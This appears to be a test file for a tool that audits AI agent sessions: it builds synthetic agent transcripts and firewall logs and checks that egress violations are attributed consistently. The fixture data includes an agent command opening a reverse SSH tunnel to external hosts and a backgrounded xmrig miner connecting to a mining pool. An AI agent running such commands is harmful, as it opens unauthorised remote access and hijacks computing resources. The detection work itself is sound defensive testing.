// Tool calls past the memory budget go to disk, are linked as a stream and read back through a
// moving window: the report must not change, byte for byte, whatever the budget. The evidence has
// what that path must get right: copies of calls in a second transcript, open-ended calls ended by
// their session's next call (and calls that share a start), sparse sessions whose next call comes
// long after, a call running two hours and one left in the background, a miner reconnecting for
// hours (a persistent rule looking back hours), and a log 40 s late whose clock is estimated.
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AnalysisOptions } from '../src/options.js';
import { analyze, type Analysis } from '../src/pipeline.js';
import { ensureBuilt } from './cli/built-cli.js';

const base = (paths: string[], extra: Partial<AnalysisOptions> = {}): AnalysisOptions => ({
  paths, tz: 'UTC', skews: [], autoSkew: true, rules: [], minConfidence: 0.5, strict: false, geoip: [], inventory: 'samples/inventory.csv', ...extra,
});

/** The compiled pipeline: scan workers run only from dist/ (from the sources, scans stay on this thread). */
async function built(): Promise<typeof import('../src/pipeline.js')> {
  ensureBuilt();
  return (await import(resolve('dist/pipeline.js'))) as typeof import('../src/pipeline.js');
}

const START = Date.UTC(2026, 2, 2, 10, 0, 0);
const iso = (ms: number) => new Date(ms).toISOString();
const pad = (n: number) => String(n).padStart(2, '0');
const syslog = (ms: number) => {
  const d = new Date(ms);
  return `Mar ${String(d.getUTCDate()).padStart(2, ' ')} ${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())}`;
};
const kern = (ms: number, verdict: string, src: string, dst: string, dpt: number, i: number) =>
  `${syslog(ms)} gpu-node-07 kernel: [${(50000 + i).toFixed(6)}] SBX-EGRESS ${verdict}: IN=docker0 OUT=eth0 MAC=02:42:ac:11:00:03:02:42:5e:1a:2b:3c:08:00 SRC=${src} DST=${dst} LEN=60 TOS=0x00 PREC=0x00 TTL=63 ID=${i} DF PROTO=TCP SPT=${40000 + (i % 900)} DPT=${dpt} WINDOW=64240 RES=0x00 SYN URGP=0`;

function call(session: string, id: string, command: string, startMs: number, endMs?: number): string {
  return JSON.stringify({ v: 'agent-events/1', type: 'tool_call', session, call_id: id, tool: 'bash', command, start: iso(startMs), ...(endMs === undefined ? {} : { end: iso(endMs) }), exit_code: 0 });
}

function evidence(): string {
  const dir = mkdtempSync(join(tmpdir(), 'af-calls-'));
  cpSync('samples/agent', join(dir, 'agent'), { recursive: true });
  cpSync('samples/firewall', join(dir, 'firewall'), { recursive: true });
  const lines = ['ep-0416', 'ep-0415', 'ep-9001', 'ep-9002'].map((session, k) =>
    JSON.stringify({ v: 'agent-events/1', type: 'session', session, start: iso(START), host: k === 1 ? 'gpu-node-08' : 'gpu-node-07', sandbox: ['sb-04', 'sb-11', 'sb-02', 'sb-03'][k] }));
  const calls: [number, string][] = [];
  // a busy session: a call every 7 s, with an end
  for (let i = 0; i < 1500; i++) calls.push([START + i * 7000, call('ep-0416', `a${i}`, ['git status', 'pytest -q', `cat notes-${i % 40}.txt`][i % 3]!, START + i * 7000, START + i * 7000 + 1500 + (i % 5) * 900)]);
  // open-ended calls (no end), two of them issued together now and then
  for (let i = 0; i < 400; i++) {
    const t = START + 3000 + i * 45_000;
    calls.push([t, call('ep-0415', `b${i}`, `python step.py --n ${i % 7}`, t)]);
    if (i % 9 === 0) calls.push([t, call('ep-0415', `b${i}x`, 'ls /workspace', t)]);
  }
  // a sparse session, a long call, a miner left in the background, and calls naming a destination a late log drops
  for (let i = 0; i < 14; i++) calls.push([START + i * 20 * 60_000 + 500, call('ep-9001', `c${i}`, `ssh -N -R 9000:localhost:22 tunnel@203.0.113.${50 + (i % 3)}`, START + i * 20 * 60_000 + 500, START + i * 20 * 60_000 + 4500)]);
  calls.push([START + 5 * 60_000, call('ep-9001', 'c-long', 'python train.py --epochs 40', START + 5 * 60_000, START + 125 * 60_000)]);
  calls.push([START + 30 * 60_000, call('ep-9002', 'd-miner', 'nohup ./xmrig -o stratum+tcp://198.51.100.20:3333 &', START + 30 * 60_000, START + 30 * 60_000 + 800)]);
  calls.sort((a, b) => a[0] - b[0]);
  lines.push(...calls.map(([, line]) => line));
  writeFileSync(join(dir, 'agent', 'trace.jsonl'), lines.join('\n') + '\n');
  // the same records in a second transcript (an export copied twice), from the start
  writeFileSync(join(dir, 'agent', 'trace-copy.jsonl'), lines.slice(0, 700).join('\n') + '\n');
  const log: string[] = [];
  // the late log: drops 40 s after the calls that name their destination
  for (let i = 0; i < 14; i++) log.push(kern(START + i * 20 * 60_000 + 2500 + 40_000, 'DROP', '172.17.0.9', `203.0.113.${50 + (i % 3)}`, 22, i));
  // the miner reconnecting every 30 s for three hours (from an address the inventory does not list, as the late drops)
  for (let i = 0; i < 360; i++) log.push(kern(START + 31 * 60_000 + i * 30_000 + 40_000, 'ACCEPT', '172.17.0.9', '198.51.100.20', 3333, 100 + i));
  log.sort((a, b) => (a < b ? -1 : a > b ? 1 : 0));
  writeFileSync(join(dir, 'firewall', 'late-kern.log'), log.join('\n') + '\n');
  return dir;
}

let dir = '';
let held: Analysis;
beforeAll(async () => {
  dir = evidence();
  held = await analyze(base([dir]));
}, 120_000);
afterAll(() => {
  held.spilled?.dispose();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

describe('tool calls past the memory budget', () => {
  it('give the same report, byte for byte, whatever the budget', async () => {
    const report = JSON.stringify(held.report);
    expect(held.spilledCalls).toBe(0);
    // The cases this must cover are there.
    expect(held.report.stats.toolCalls).toBeGreaterThan(1900);
    // (path order: the copy comes first, so the original's records are reported as its copies)
    expect(held.report.inputs.find((i) => i.path.endsWith('/trace.jsonl'))!.notes?.join(' ')).toMatch(/^696 tool calls are copies of records in .*trace-copy\.jsonl/);
    const late = held.report.clock.find((c) => c.path.endsWith('late-kern.log'))!;
    expect(late.method).toBe('estimated');
    expect(late.offsetMs).toBeLessThan(-30_000);
    expect(held.report.violations.some((v) => v.attribution?.callId === 'd-miner')).toBe(true);
    // 0: on disk from the start (a run per transcript); 97: runs of 97 calls, about twenty of them
    // merged; 3: about 900 runs, more than are merged at once (groups are merged first)
    for (const callsInMemory of [0, 3, 97, 1000]) {
      const spilt = await analyze(base([dir], { callsInMemory }));
      expect(spilt.spilledCalls, String(callsInMemory)).toBeGreaterThan(0);
      expect(JSON.stringify(spilt.report), String(callsInMemory)).toBe(report);
      spilt.spilled?.dispose();
    }
  }, 120_000);

  it('give the same report when scan workers read the transcripts, each writing its calls to disk', async () => {
    // All at once: the transcripts are then read without a reference time from the ones before (they need none).
    const inWorkers = await (await built()).analyze(base([dir], { callsInMemory: 0, workers: 2 }));
    const plan = (a: Analysis) => a.readPlan.get(join(dir, 'agent', 'trace.jsonl'))!.settings.referenceMs;
    expect(plan(held)).toBeGreaterThan(0);
    expect(plan(inWorkers)).toBeUndefined();
    expect(inWorkers.spilledCalls).toBeGreaterThan(0);
    expect(JSON.stringify(inWorkers.report)).toBe(JSON.stringify(held.report));
    inWorkers.spilled?.dispose();
  }, 180_000);

  it('give the same clocks to the timeline, which stops at them', async () => {
    const inMemory = await analyze(base([dir], { clocksOnly: true }));
    const onDisk = await analyze(base([dir], { clocksOnly: true, callsInMemory: 0 }));
    expect(onDisk.spilledCalls).toBeGreaterThan(0);
    expect(JSON.stringify(onDisk.report)).toBe(JSON.stringify(inMemory.report));
    expect(onDisk.report.clock).toEqual(held.report.clock);
  }, 60_000);

  it('keep the calls of a transcript with characters JSON escapes and a path outside ASCII', async () => {
    const odd = mkdtempSync(join(tmpdir(), 'af-calls-odd-'));
    try {
      const text = readFileSync(join(dir, 'agent', 'trace.jsonl'), 'utf8').split('\n').slice(0, 400)
        .map((l) => l.replace('"command":"git status"', '"command":"echo \\"tab\\there\\" ünïcødé \\u2028 ok"'));
      writeFileSync(join(odd, 'träce "q".jsonl'), text.join('\n'));
      writeFileSync(join(odd, 'träce "q" copy.jsonl'), text.slice(0, 50).join('\n'));
      const a = await analyze(base([odd]));
      for (const run of [analyze, (await built()).analyze]) {
        const b = await run(base([odd], { callsInMemory: 0, workers: 2 }));
        expect(b.spilledCalls).toBeGreaterThan(0);
        expect(JSON.stringify(b.report)).toBe(JSON.stringify(a.report));
      }
    } finally {
      rmSync(odd, { recursive: true, force: true });
    }
  }, 60_000);
});
